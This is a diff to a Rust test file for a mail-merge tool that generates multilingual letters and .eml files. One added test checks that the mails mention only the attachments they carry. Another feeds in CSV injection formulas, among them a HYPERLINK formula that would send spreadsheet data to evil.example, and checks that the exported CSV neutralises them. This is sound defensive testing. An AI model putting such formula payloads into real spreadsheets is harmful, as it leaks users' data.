@@ -4,7 +4,7 @@
 
 mod common;
 
-use bpfpress::mail::{LetterError, MailText, Recipient, RunOptions, Status};
+use bpfpress::mail::{Language, LetterError, MailText, Recipient, Role, RunOptions, Status};
 use common::*;
 use serde_json::json;
 
@@ -137,11 +137,14 @@ fn manifest_lists_files_and_status() {
     let mut lines = csv.lines();
     assert_eq!(
         lines.next().unwrap(),
-        "row,stem,organisation,contact_name,email,language,letter,eml,message_id,status,reason"
+        "row,stem,organisation,contact_name,email,language,letter,eml,message_id,status,reason,salutation,warnings"
     );
     let first = lines.next().unwrap();
     assert!(first.starts_with("1,001-unesco-communication-and-information-sector,UNESCO – Communication and Information Sector,Amélie Dubois-Lefèvre,a.dubois-lefevre@unesco.example.org,fr,letters/001-unesco-communication-and-information-sector.pdf,mail/001-unesco-communication-and-information-sector.eml,<"), "{first}");
-    assert!(first.ends_with(",generated,"), "{first}");
+    assert!(
+        first.ends_with(",generated,,\"Madame la Directrice,\","),
+        "{first}"
+    );
     assert_eq!(lines.count(), 20);
     let json: serde_json::Value =
         serde_json::from_slice(&std::fs::read(dir.path().join("mailing.json")).unwrap()).unwrap();
@@ -257,4 +260,159 @@ fn user_mail_texts_replace_the_built_in_ones_per_language() {
         e.contains("mail.es.txt: line 3: unknown placeholder {saludo}"),
         "{e}"
     );
+}
+
+/// The mail names only what it carries: without a takeaways sheet it
+/// promises no summary, in every language; with one it names it. Checked
+/// by Python's `email` on the `.eml` files.
+#[test]
+fn mails_mention_only_the_attachments_they_carry() {
+    let Some(py) = python_with("email") else {
+        return;
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let rs = institutions();
+    let mut spec = Vec::new();
+    for (sub, with_sheet) in [("with", true), ("without", false)] {
+        let mut c = campaign();
+        if !with_sheet {
+            c.shared.retain(|a| a.role != Role::Takeaways);
+        }
+        let mut o = RunOptions::new(dir.path().join(sub));
+        o.progress = false;
+        o.threads = 2;
+        let m = c.run(&rs, &fixture_letter(), &o).unwrap();
+        assert_eq!(m.count(Status::Generated), 21);
+        for (e, r) in m.entries.iter().zip(&rs.list) {
+            let (subject, text) = c.render_text(r);
+            let sentence =
+                bpfpress::mail::campaign::attachments_sentence(r.language, true, with_sheet);
+            assert!(text.contains(&sentence), "{text}");
+            // Words that announce a summary, per language.
+            let summary = match r.language {
+                Language::En => "summary",
+                Language::Fr => "synthèse",
+                Language::Es => "resumen",
+                Language::Ru => "резюме",
+                Language::Zh => "摘要",
+                Language::Ar => "ملخص",
+            };
+            let mut attachments = vec![
+                json!([
+                    MailText::letter_filename(r.language),
+                    "application/pdf",
+                    dir.path().join(sub).join(e.letter.as_ref().unwrap())
+                ]),
+                json!([
+                    "bpf-on-bpfs-2020-report.pdf",
+                    "application/pdf",
+                    fixture(REPORT)
+                ]),
+            ];
+            if with_sheet {
+                attachments.push(json!([
+                    "key-takeaways.pdf",
+                    "application/pdf",
+                    fixture(TAKEAWAYS)
+                ]));
+            }
+            spec.push(json!({
+                "eml": dir.path().join(sub).join(e.eml.as_ref().unwrap()),
+                "from": ["Secrétariat du FGI – IGF Secretariat", "igf-bpf@secretariat.example.org"],
+                "to": [r.display_name(), r.email.as_ref().unwrap()],
+                "subject": subject,
+                "message_id": e.message_id.as_ref().unwrap(),
+                "text_contains": if with_sheet { vec![sentence.as_str(), summary] } else { vec![sentence.as_str()] },
+                "text_lacks": if with_sheet { vec!["two-page", "deux pages"] } else { vec![summary, "two-page"] },
+                "html_contains": [],
+                "attachments": attachments,
+            }));
+        }
+    }
+    let spec_path = dir.path().join("spec.json");
+    std::fs::write(&spec_path, serde_json::to_vec(&spec).unwrap()).unwrap();
+    let out = std::process::Command::new(py)
+        .arg(root().join("tests/check_eml.py"))
+        .arg(&spec_path)
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "{stdout}{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(stdout.trim(), "ok 42");
+}
+
+/// `mailing.csv` is opened in spreadsheet programs: a cell that begins
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a
+/// leading `'` (OWASP CSV injection), so no formula runs; `mailing.json`
+/// keeps the data as it is. Display names wrapped in quotes are not quoted
+/// twice in the `To:` header.
+#[test]
+fn mailing_csv_neutralises_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let csv_in = dir.path().join("evil.csv");
+    std::fs::write(
+        &csv_in,
+        "organisation,contact_name,email,notes\n\
+         \"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"\"\"Jane Doe\"\"\",a@evil.example.org,\n\
+         +Plus Agency,@SUM(A1:A9),b@evil.example.org,\n\
+         -Minus Office,Normal Name,c@evil.example.org,\n\
+         Fine Ministry,=1+1,d@evil.example.org,\n",
+    )
+    .unwrap();
+    let rs = bpfpress::mail::recipients::load(
+        &csv_in,
+        bpfpress::mail::LoadOptions {
+            require_email: true,
+            skip_invalid: false,
+        },
+    )
+    .unwrap();
+    let mut o = RunOptions::new(dir.path().join("out"));
+    o.progress = false;
+    let m = campaign().run(&rs, &fixture_letter(), &o).unwrap();
+    assert_eq!(m.count(Status::Generated), 4);
+    let mut rdr = csv::Reader::from_path(dir.path().join("out/mailing.csv")).unwrap();
+    let headers = rdr.headers().unwrap().clone();
+    let col = |n: &str| headers.iter().position(|h| h == n).unwrap();
+    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
+    let cell = |r: usize, c: &str| rows[r][col(c)].to_owned();
+    assert_eq!(
+        cell(0, "organisation"),
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    );
+    assert_eq!(cell(1, "organisation"), "'+Plus Agency");
+    assert_eq!(cell(1, "contact_name"), "'@SUM(A1:A9)");
+    assert_eq!(cell(2, "organisation"), "'-Minus Office");
+    assert_eq!(cell(3, "contact_name"), "'=1+1");
+    assert_eq!(cell(3, "organisation"), "Fine Ministry");
+    for r in &rows {
+        for c in r.iter() {
+            assert!(
+                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "formula-like cell {c:?}"
+            );
+        }
+    }
+    // The JSON manifest keeps the organisation as written.
+    let json: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(dir.path().join("out/mailing.json")).unwrap())
+            .unwrap();
+    assert_eq!(
+        json["entries"][0]["organisation"],
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    );
+    // A name wrapped in quotes is not quoted twice in the header.
+    let eml = std::fs::read_to_string(
+        dir.path()
+            .join("out")
+            .join(m.entries[0].eml.as_ref().unwrap()),
+    )
+    .unwrap();
+    let to = eml.lines().find(|l| l.starts_with("To:")).unwrap();
+    assert!(!to.contains("\\\""), "{to}");
+    assert!(to.contains("Jane Doe"), "{to}");
 }
